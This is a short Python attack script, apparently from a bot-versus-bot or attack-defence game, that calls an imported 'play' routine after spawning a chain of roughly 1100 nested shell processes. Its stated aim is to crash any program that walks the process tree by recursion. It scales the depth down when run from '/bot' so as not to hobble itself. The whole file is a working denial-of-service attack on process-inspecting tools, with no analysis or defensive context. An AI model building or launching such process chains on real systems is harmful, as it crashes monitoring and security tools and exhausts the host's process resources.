"""A chain so deep that whoever walks down it by recursion falls. Each of it is a shell, since they are small."""

import os
import subprocess

from attack import play

# In a sandbox a deep chain would only keep us ourselves from starting threads.
DEPTH = 20 if os.getcwd() == "/bot" else 1100
CHAIN = 'if [ "$1" -gt 0 ]; then sh -c "$0" "$0" $(($1 - 1)) & wait; else sleep 3600; fi'

subprocess.Popen(["sh", "-c", CHAIN, CHAIN, str(DEPTH)])
play()
